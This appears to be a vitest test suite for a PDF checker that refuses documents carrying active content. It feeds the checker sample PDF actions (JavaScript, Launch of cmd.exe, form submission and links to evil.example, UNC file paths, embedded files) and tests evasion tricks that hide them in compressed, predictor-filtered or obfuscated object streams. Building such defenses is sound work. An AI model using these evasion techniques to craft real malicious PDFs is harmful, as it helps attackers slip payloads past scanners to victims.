import { deflateSync } from "node:zlib";
import PDFDocument from "pdfkit";
import { expect, onTestFinished, test, vi } from "vitest";
import { checkPdf } from "./check-pdf.ts";

const pdf = (body: string) => Buffer.from(`%PDF-1.7\n${body}\n%%EOF`, "latin1");
const verdict = (body: string) => checkPdf(pdf(body)) ?? "taken";
const latin = (bytes: Uint8Array) => Buffer.from(bytes).toString("latin1");
const stream = (dictionary: string, data: Uint8Array | string) =>
  `4 0 obj <<${dictionary}>> stream\n${typeof data === "string" ? data : latin(data)}\nendstream endobj`;

/** Every kind of action that opens, sends or runs, and files that are named or carried (ISO 32000-2, 12.6.4 and 7.11). */
const ACTIVE = [
  "<</S /JavaScript /JS (app.alert(1))>>",
  "<</S /Launch /F (cmd.exe)>>",
  "<</S /SubmitForm /F <</FS /URL /F (https://evil.example/)>>>>",
  "<</S /ImportData /F (x.fdf)>>",
  "<</S /URI /URI (https://evil.example/)>>",
  "<</S /GoToR /F (\\\\\\\\evil.example\\\\share\\\\a.pdf) /D [0 /Fit]>>",
  "<</S /GoToE /T <</R /C /N (a)>>>>",
  "<</S /Thread /F (\\\\\\\\evil.example\\\\a) /D 0>>",
  "<</S /Rendition /OP 0>>",
  "<</S /Sound /Sound 5 0 R>>",
  "<</S /Movie /T (a)>>",
  "<</S /GoTo3DView /V /F>>",
  "<</S /RichMediaExecute /TA 1 0 R>>",
  "<</Subtype /FileAttachment /FS 5 0 R>>",
  "<</Type /Filespec /UF (a.exe)>>",
  "<</F (\\\\\\\\evil.example\\\\share\\\\a)>>",
  "<</F <5C5C6576696C5C61>>>",
  "<</Type /EmbeddedFile>>",
  "<</F 7 0 R /EF <</F 9 0 R>>>>",
  "<</XFA 5 0 R>>",
];

test.each(ACTIVE)("%s is refused as an opening action, of an annotation, and in any object", (action) => {
  expect(verdict(`1 0 obj <</Type /Catalog /OpenAction ${action}>> endobj`)).toBe("has-scripts");
  expect(verdict(`1 0 obj <</Type /Annot /Subtype /Link /A ${action}>> endobj`)).toBe("has-scripts");
  expect(verdict(`7 0 obj ${action} endobj`)).toBe("has-scripts");
});

/** PNG's filters, each row with its number before it; what was before a predictor is what a reader sees. */
function predicted(text: string, columns: number, filter: 0 | 1 | 2 | 4): Buffer {
  const plain = Buffer.from(text.padEnd(Math.ceil(text.length / columns) * columns, " "), "latin1");
  const rows: Buffer[] = [];
  for (let at = 0; at < plain.length; at += columns) {
    const row = Buffer.alloc(columns + 1);
    row[0] = filter;
    for (let n = 0; n < columns; n++) {
      const left = n > 0 ? (plain[at + n - 1] ?? 0) : 0;
      const up = plain[at + n - columns] ?? 0;
      const corner = n > 0 ? (plain[at + n - columns - 1] ?? 0) : 0;
      const guess = filter === 0 ? 0 : filter === 1 ? left : filter === 2 ? up : paeth(left, up, corner);
      row[n + 1] = ((plain[at + n] ?? 0) - guess) & 255;
    }
    rows.push(row);
  }
  return Buffer.concat(rows);
}

function paeth(left: number, up: number, corner: number): number {
  const estimate = left + up - corner;
  const [a, b, c] = [left, up, corner].map((each) => Math.abs(estimate - each)) as [number, number, number];
  if (a <= b && a <= c) return left;
  return b <= c ? up : corner;
}

const HIDDEN = "5 0 6 40 <</Type /Catalog>> <</S /JavaScript /JS (x)>>";
const PARMS = (predictor: number, columns: number) =>
  `/DecodeParms <</Predictor ${predictor} /Columns ${columns}>>`;
/** An object stream behind a predictor, its rows written with one of PNG's filters. */
const hidden = (predictor: number, columns: number, filter: 0 | 1 | 2 | 4, type = "/Type /ObjStm ") =>
  stream(
    `${type}/N 1 /First 4 /Filter /FlateDecode ${PARMS(predictor, columns)}`,
    deflateSync(predicted(HIDDEN, columns, filter)),
  );

test.each([
  ["with a predictor of each kind", hidden(12, 7, 2)],
  ["with PNG's Sub", hidden(11, 9, 1)],
  ["with PNG's Paeth", hidden(15, 5, 4)],
  ["with PNG's None, which only cuts its words", hidden(10, 3, 0)],
  ["without a type", stream("/N 1 /First 4 /Filter /FlateDecode", deflateSync(Buffer.from(HIDDEN)))],
  ["without a type, with a predictor", hidden(12, 7, 2, "")],
  [
    "of another type",
    stream(
      "/Type /XObject /Subtype /Image /N 1 /First 4 /Filter /FlateDecode",
      deflateSync(Buffer.from(HIDDEN)),
    ),
  ],
  ["without a type and not packed", stream("/N 1 /First 4", HIDDEN)],
  [
    "behind a comment",
    stream("/N 1 /First 4 /Filter /FlateDecode", deflateSync(Buffer.from(`%a\n${HIDDEN}`))),
  ],
])("a script in an object stream %s is found", (_, body) => {
  expect(verdict(body)).toBe("has-scripts");
});

test.each([
  [
    "whose settings stand elsewhere",
    stream("/N 1 /First 4 /Filter /FlateDecode /DecodeParms 9 0 R", deflateSync(Buffer.from(HIDDEN))),
  ],
  [
    "that breaks off",
    stream(
      "/N 1 /First 4 /Filter /FlateDecode",
      deflateSync(Buffer.from(HIDDEN.padEnd(500))).subarray(0, 60),
    ),
  ],
  [
    "that is packed twice",
    stream(
      "/N 1 /First 4 /Filter [/FlateDecode /FlateDecode]",
      deflateSync(deflateSync(Buffer.from(HIDDEN))),
    ),
  ],
  [
    "whose predictor is written as no other is",
    stream(
      "/N 1 /First 4 /Filter /FlateDecode /DecodeParms <</Predictor +12 /Columns 7>>",
      deflateSync(predicted(HIDDEN, 7, 2)),
    ),
  ],
])("an object stream %s is refused, because nobody knows what it holds", (_, body) => {
  expect(verdict(body)).toBe("unreadable");
});

const LINK = "<</S /URI /URI (https://evil.example/)>>";

test.each([
  ["in a comment", `% stream\n7 0 obj ${LINK} endobj\n% endstream`],
  ["in a comment with the end of a dictionary", `%>> stream\n7 0 obj ${LINK} endobj\n% endstream`],
  ["in a comment, on two lines", `7 0 obj <</A % >>\nstream\n ${LINK} % endstream\n>> endobj`],
  ["in a comment of an annotation", `7 0 obj <</Type /Annot % stream\n/A ${LINK} % endstream\n>> endobj`],
  ["in a string", `7 0 obj <</T (>> stream\n) /A ${LINK} /X (endstream) >> endobj`],
  ["in a string behind another", `7 0 obj <</T (a\\)b(c)>> stream\n) /A ${LINK} /X (endstream) >> endobj`],
  ["in a string of an object in a comment", `% 7 0 obj <</T (\n>> stream\n) /A ${LINK} /X (endstream)>>`],
  ["as a bare word", `7 0 obj <</Type /Annot stream\n/A ${LINK} endstream >> endobj`],
])("no object hides behind the word stream %s", (_, body) => {
  expect(verdict(body)).toBe("has-scripts");
  expect(verdict(body.replace(LINK, "<</Encrypt 9 0 R>>"))).toBe("locked");
});

test.each([
  ["an object within the data of a stream", stream("/Length 60", `7 0 obj ${LINK} endobj`)],
  ["a model in space", "7 0 obj <</Type /Annot /Subtype /3D /3DD 8 0 R>> endobj"],
  ["a script of a model", "7 0 obj <</Type /3D /Subtype /U3D /OnInstantiate 9 0 R>> endobj"],
  ["a file behind a comment", "7 0 obj <</S /GoTo /F %a\n(\\\\evil.example\\a)>> endobj"],
  ["a thread behind a comment", "7 0 obj <</S%a\n/Thread /D 0>> endobj"],
  ["a file behind a null", "7 0 obj <</F\0(\\\\evil.example\\a)>> endobj"],
  ["a thread with codes in its name", "7 0 obj <</#53 /Thr#65ad /D 0>> endobj"],
])("%s is refused", (_, body) => {
  expect(verdict(body)).toBe("has-scripts");
});

/** The filters that lose nothing, each with what writes it. */
const FILTERS: Record<string, (plain: Buffer) => Buffer> = {
  FlateDecode: (plain) => deflateSync(plain),
  ASCIIHexDecode: (plain) => Buffer.from(`${plain.toString("hex").replace(/(.{60})/g, "$1\n")}>`),
  ASCII85Decode: (plain) => Buffer.from(`${base85(plain)}~>`),
  LZWDecode: lzw,
  RunLengthDecode: (plain) =>
    Buffer.concat([
      ...Array.from({ length: Math.ceil(plain.length / 100) }, (_, n) => {
        const part = plain.subarray(n * 100, n * 100 + 100);
        return Buffer.concat([Buffer.from([part.length - 1]), part]);
      }),
      Buffer.from([128]),
    ]),
};

function base85(plain: Buffer): string {
  const groups = Array.from({ length: Math.ceil(plain.length / 4) }, (_, n) =>
    plain.subarray(n * 4, n * 4 + 4),
  );
  return groups
    .map((group) => {
      const value = Buffer.concat([group, Buffer.alloc(4)]).readUInt32BE(0);
      const letters = [4, 3, 2, 1, 0].map((power) =>
        String.fromCharCode(33 + (Math.floor(value / 85 ** power) % 85)),
      );
      return letters.join("").slice(0, group.length + 1);
    })
    .join("");
}

/** With the table emptied before it is used, every code has nine bits. */
function lzw(plain: Buffer): Buffer {
  const codes = [...plain].flatMap((byte, n) => (n % 100 === 0 ? [256, byte] : [byte]));
  const bits = [...codes, 257].map((code) => code.toString(2).padStart(9, "0")).join("");
  return Buffer.from((bits.match(/.{1,8}/g) ?? []).map((byte) => Number.parseInt(byte.padEnd(8, "0"), 2)));
}

/** Each filter but Flate alone, and each behind each: as readers undo them, from left to right. */
const CHAINS = Object.keys(FILTERS).flatMap((first) => [
  ...(first === "FlateDecode" ? [] : [[first]]),
  ...Object.keys(FILTERS).map((second) => [first, second]),
]);

test.each(CHAINS.map((chain) => [chain.join(" "), chain] as const))(
  "objects behind %s are refused, whatever the document says of their stream",
  (_, chain) => {
    const packed = chain.reduceRight<Buffer>(
      (plain, name) => FILTERS[name]?.(plain) ?? plain,
      Buffer.from(HIDDEN),
    );
    const names = `[${chain.map((name) => `/${name}`).join(" ")}]`;
    for (const said of [
      `/Type /ObjStm /N 1 /First 4 /Filter ${names}`,
      `/N 1 /First 4 /Filter ${names}`,
      `/N 8 0 R /First 9 0 R /Filter ${names}`,
      "/N 8 0 R /First 9 0 R /Filter 7 0 R",
      `/#4e 8 0 R /F#69rst 9 0 R /F ${names}`,
    ]) {
      expect(["unreadable", "has-scripts"], said).toContain(verdict(stream(said, packed)));
    }
  },
);

test.each([
  ["under the short name of its filter", "/N 1 /First 4 /F /FlateDecode", deflateSync(Buffer.from(HIDDEN))],
  [
    "under a filter with codes in its name",
    "/N 1 /First 4 /#46ilter /Fl#61teDecode",
    deflateSync(Buffer.from(HIDDEN)),
  ],
  ["behind space", "/N 8 0 R /First 9 0 R /F /Fl", deflateSync(Buffer.from(`${" ".repeat(9000)}${HIDDEN}`))],
  [
    "behind noughts",
    "/N 8 0 R /First 9 0 R /F /Fl",
    deflateSync(Buffer.from(`${"\0".repeat(9000)}${HIDDEN}`)),
  ],
  ["behind signs", "/N 8 0 R /First 9 0 R /F /Fl", deflateSync(Buffer.from(`+5%x\n0.0 ${HIDDEN}`))],
])("a script in an object stream %s is refused", (_, said, packed) => {
  expect(["unreadable", "has-scripts"]).toContain(verdict(stream(said, packed)));
});

test.each([
  [
    "a predictor that stands elsewhere",
    "/N 8 0 R /First 9 0 R /F /Fl /DP 6 0 R",
    deflateSync(predicted(HIDDEN, 7, 2)),
  ],
  [
    "a filter for pictures",
    "/N 1 /First 4 /Filter /CCITTFaxDecode",
    Buffer.from([7, 99, 200, 3, 150, 77, 31, 9]),
  ],
])("an object stream behind %s is refused", (_, said, packed) => {
  expect(verdict(stream(said, packed))).toBe("unreadable");
});

test.each([
  ["as every producer writes it", "7 0 obj"],
  ["with comments between its numbers", "7%\n0%a comment\r\nobj"],
  ["with a comment and a space", "7 % \n 0 obj"],
  ["without the last space", "7 0obj"],
  ["with noughts for spaces", `7\0${0}\0obj`],
])("an object within the data of a stream is seen, %s", (_, beginning) => {
  expect(verdict(stream("", `${beginning} <</S /URI /URI (https://evil.example/)>> endobj`))).toBe(
    "has-scripts",
  );
});

test("a document of nothing but beginnings of objects is looked through once", () => {
  for (const piece of ["1 % ", "%\nobj", "% % % % % \nobj"]) {
    expect(verdict(stream("", piece.repeat(10_000_000 / piece.length)))).toBe("taken");
  }
});

test("honest streams beside an outline are taken: pictures, fonts and profiles are no object streams", () => {
  const outline = "3 0 obj <</Type /Outlines /First 5 0 R /N 3>> endobj ";
  const noise = Buffer.from(Array.from({ length: 4000 }, (_, n) => (n * 7919) % 251));
  expect(verdict(outline + stream("/Subtype /Image /Filter /DCTDecode", noise))).toBe("taken");
  expect(verdict(outline + stream("/Subtype /Image /Filter /FlateDecode", deflateSync(noise)))).toBe("taken");
  const rows = stream(`/Subtype /Image /Filter /FlateDecode ${PARMS(15, 100)}`, deflateSync(noise));
  expect(verdict(outline + rows)).toBe("taken");
  expect(verdict(outline + stream("/Filter [/ASCII85Decode /FlateDecode]", "9jqo^BlbD-~>"))).toBe("taken");
  expect(
    verdict(outline + stream("/Filter /FlateDecode", deflateSync(Buffer.from("0 0 612 792 re W n")))),
  ).toBe("taken");
});

test("an honest picture with a table of colours in parentheses keeps its pixels out of the objects", () => {
  const colours = "/ColorSpace [/Indexed /DeviceRGB 1 (a\\(b)]";
  expect(verdict(stream(`/Subtype /Image ${colours} /Filter /DCTDecode`, "x/JS /F(y"))).toBe("taken");
});

test("what opens a page of the document itself is taken, and the laboratory's own documents may have links", () => {
  expect(
    verdict("1 0 obj <</Type /Catalog /OpenAction [3 0 R /Fit] /A <</S /GoTo /D [3 0 R /Fit]>>>> endobj"),
  ).toBe("taken");
  expect(verdict("5 0 obj <</Type /Annot /F 4 /Font <</F 6 0 R /F1 7 0 R>>>> endobj")).toBe("taken");
  const link = pdf("1 0 obj <</S /URI /URI (https://lab.example/)>> endobj");
  expect(checkPdf(link, { links: "taken" })).toBeNull();
  expect(checkPdf(pdf("1 0 obj <</S /SubmitForm>> endobj"), { links: "taken" })).toBe("has-scripts");
});

test("a document as a producer writes it is taken, and with a link it is not", async () => {
  const make = (link: boolean) =>
    new Promise<Buffer>((resolve) => {
      const document = new PDFDocument({ pdfVersion: "1.7" });
      const chunks: Buffer[] = [];
      document.on("data", (chunk: Buffer) => chunks.push(chunk));
      document.on("end", () => resolve(Buffer.concat(chunks)));
      document.outline.addItem("Curriculum vitae");
      document.text("Rina Pal, DMLT", link ? { link: "https://evil.example/" } : {});
      document.end();
    });
  expect(checkPdf(await make(false))).toBeNull();
  expect(checkPdf(await make(true))).toBe("has-scripts");
});

test("no setting of a stream makes it take more memory than a few times what it holds", () => {
  const numbers = Array.from({ length: 500 }, (_, n) => `/Predictor ${n + 10}`).join(" ");
  const objects = Buffer.from("5 0 <</Type /Page>> ".repeat(5000));
  const settings = `${numbers} /Columns 999999 /Colors 999 /BitsPerComponent 8`;
  const dictionary = `/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /DecodeParms <<${settings}>>`;
  const alloc = vi.spyOn(Buffer, "alloc");
  onTestFinished(() => alloc.mockRestore());
  verdict(stream(dictionary, deflateSync(objects)));
  const taken = alloc.mock.calls.map(([size]) => size);
  expect(Math.max(...taken)).toBeLessThan(8 * objects.length);
  expect(taken.filter((size) => size >= objects.length).length).toBeLessThan(30);
});
